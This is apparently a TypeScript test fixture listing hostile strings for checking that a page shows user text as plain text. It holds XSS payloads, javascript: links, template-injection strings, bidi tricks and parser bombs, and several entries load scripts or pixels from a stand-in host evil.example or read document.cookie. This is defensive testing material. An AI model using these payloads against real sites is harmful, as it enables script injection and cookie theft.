const markup = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "</script><script>alert(1)</script>",
  "<script type=module>import('//evil.example/x.js')</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">',
  "<img/src=x/onerror=alert(1)//",
  "<IMG SRC=`javascript:alert(1)`>",
  '<img src="https://evil.example/pixel.gif">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<form action=javascript:alert(1)><input type=submit></form>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<style>@import '//evil.example/x.css'</style>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<button popovertarget=x onbeforetoggle=alert(1)>x</button>",
  "<p style=animation-name:x onanimationstart=alert(1)>",
];

const attributes = [
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '"><script>alert(1)</script>',
  "`-alert(1)-`",
];

const links = [
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java\tscript:alert(1))",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/pixel.gif)",
  "[x]: javascript:alert(1)\n[x]",
  "<javascript:alert(1)>",
  "javascript:alert(document.cookie)",
];

const entities = [
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#x3C;img src=x onerror=alert(1)&#x3E;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
];

const templates = ["{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "$t(apology.lost)", "{{name}}"];

const characters = ["\u202Eterces\u202C <b>shown backwards</b>", "\u2066\u202Dabc\u2069def"];

const bombs = [`${"[".repeat(5_000)}x${"](y)".repeat(5_000)}`, "> ".repeat(5_000), `${"**".repeat(5_000)}x`];

/** Strings that would run code, load something or confuse the page if they were not shown as plain text. */
export const hostileTexts: readonly string[] = [
  ...markup,
  ...attributes,
  ...links,
  ...entities,
  ...templates,
  ...characters,
  ...bombs,
];
